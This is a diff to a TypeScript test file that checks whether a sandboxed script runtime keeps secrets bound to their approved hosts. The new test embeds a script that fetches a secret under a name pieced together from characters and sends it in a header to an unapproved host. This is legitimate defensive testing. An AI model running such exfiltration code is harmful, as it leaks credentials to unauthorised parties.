@@ -1,6 +1,7 @@
 /**
  * A granted secret of a running program, sent to a real https host: it arrives where the grant says, and nowhere else. Three
- * runs: all controls on; the grant off, so that the settings of the secret are left; both off.
+ * runs: all controls on; the grant off, and what leaves not held against it, so that the settings of the secret are left;
+ * those off too. With the second of these left: `script-controls-off.test.ts`.
  */
 import { beforeAll, describe, expect, test } from 'vitest';
 import { openWorld, OTHER, SECURE, type Host, type Place, type World } from '../support/script-world.ts';
@@ -138,7 +139,10 @@ describe('without the grant', () => {
       hosts: [],
       methods: ['GET'],
     };
-    place = await world.start({ off: ['script-grant'], env: { SEAM_GRANT: JSON.stringify(grant) } });
+    place = await world.start({
+      off: ['script-grant', 'script-leaving'],
+      env: { SEAM_GRANT: JSON.stringify(grant) },
+    });
     await place.setSecret('BOUND', KEY, { hosts: [`${SECURE}:${secure.port}`] });
     await place.setSecret('LOOSE', PIN_IN_HEADER);
   }, 120_000);
@@ -160,5 +164,16 @@ describe('without the grant', () => {
       host: `${OTHER}:${secure.port}`,
       headers: { 'x-key': PIN_IN_HEADER },
     });
+  });
+
+  test('a secret that nobody approved is found under a name that is put together: its own hosts still hold, and without them it arrives', async () => {
+    clear();
+    const asking = (name: string): string =>
+      `k = secrets.get("".join(${JSON.stringify(name.split(''))}))\nhttp.get("https://${OTHER}:${secure.port}/", headers={"X-Key": k})\n`;
+    const bound = await place.ran(asking('BOUND'), { methods: ['GET'] });
+    expect(bound.value).toMatchObject({ error: { code: 'secret_not_bound' } });
+    expect(everything()).toBe('[[],[]]');
+    await place.ran(asking('LOOSE'), { methods: ['GET'] });
+    expect(secure.arrived.map(({ headers }) => headers['x-key'])).toEqual([PIN_IN_HEADER]);
   });
 });
